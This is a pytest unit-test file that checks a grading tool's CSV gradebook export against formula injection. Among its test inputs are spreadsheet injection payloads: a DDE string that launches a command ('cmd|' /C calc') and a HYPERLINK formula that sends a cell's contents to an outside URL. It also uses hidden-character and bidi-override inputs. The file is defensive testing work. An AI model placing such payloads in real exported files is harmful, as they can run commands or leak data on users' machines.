"""What students and clusters write, as cells of a table."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from pytest_k8sgrade.gradebook.attempt import Student
from pytest_k8sgrade.gradebook.build import build_class
from pytest_k8sgrade.gradebook.cells import exact, free, is_formula
from pytest_k8sgrade.gradebook.write import write_class
from tests.unit.gradebook.classes import LAB, attempt

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",  # noqa: RUF001 - full-width, as an input method writes it
    "－1+1",  # noqa: RUF001
    "-",
    "+82-10-0000-0000",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    """In a name as in an id."""
    assert is_formula(text)
    assert free(text) == exact(text) == f"'{text}"


@pytest.mark.parametrize("hidden", ["\t=1+1", "\r=1+1", " =1+1", "\u200b=1+1", "\x1b[31m=1+1", "\u202e=1+1"])
def test_what_cannot_be_seen_hides_no_formula(hidden: str) -> None:
    """White space, escapes and direction marks go first."""
    assert free(hidden) == exact(hidden) == "'=1+1"


PLAIN = ["-1", "+3.5", "-0.25", "007", "s001", "one+two@example.com", "O'Neil", "a=b", "홍"]


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_ids_and_addresses_stay_as_they_are(text: str) -> None:
    """Also those that begin with a sign."""
    assert not is_formula(text)
    assert free(text) == exact(text) == text


def test_a_text_becomes_one_line_of_a_length_that_people_read() -> None:
    """Lone surrogates, NUL and line ends are no part of a table."""
    assert free("a\nb\x00c\ud800d") == "a bcd"
    assert len(free("n" * 10_000)) == 1000
    assert free(None) == exact(None) == exact("") == ""


NAMES = [
    *FORMULAS,
    'x"; DROP',
    "a,b;c",
    "<b>bold</b>",
    "\u202eabc",
    "line\nbreak",
    "n" * 10_000,
    "\ud83d",
    "🙂",
]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_no_table_has_a_cell_that_begins_like_a_formula(name: str, tmp_path: Path) -> None:
    """Whatever a student is called; and every line has as many cells as the first."""
    student = Student(id="s001", name=name, group=name, section=name, last_name=name, first_name=name)
    made = [attempt(student, found={"base": 0.5})]
    written = write_class(build_class(made, LAB), made, tmp_path)
    for path in written.files:
        content = path.read_text(encoding="utf-8")
        assert not {"\x00", "\x1b", "\u202e"} & set(content) or path.suffix != ".csv"
        if path.suffix == ".csv":
            rows = list(csv.reader(content.splitlines()))
            assert {len(row) for row in rows} == {len(rows[0])}
            assert not [cell for row in rows for cell in row if is_formula(cell)]


def test_an_id_that_had_to_be_changed_is_told(tmp_path: Path) -> None:
    """A roster refuses it; a file that was made by other means says so."""
    made = [attempt(Student(id="s001", email="=1@example.com"))]
    written = write_class(build_class(made, LAB), made, tmp_path)
    assert [note.id for note in written.notes] == ["note-changed"]
    assert "'=1@example.com" in (tmp_path / "nbgrader.csv").read_text(encoding="utf-8")
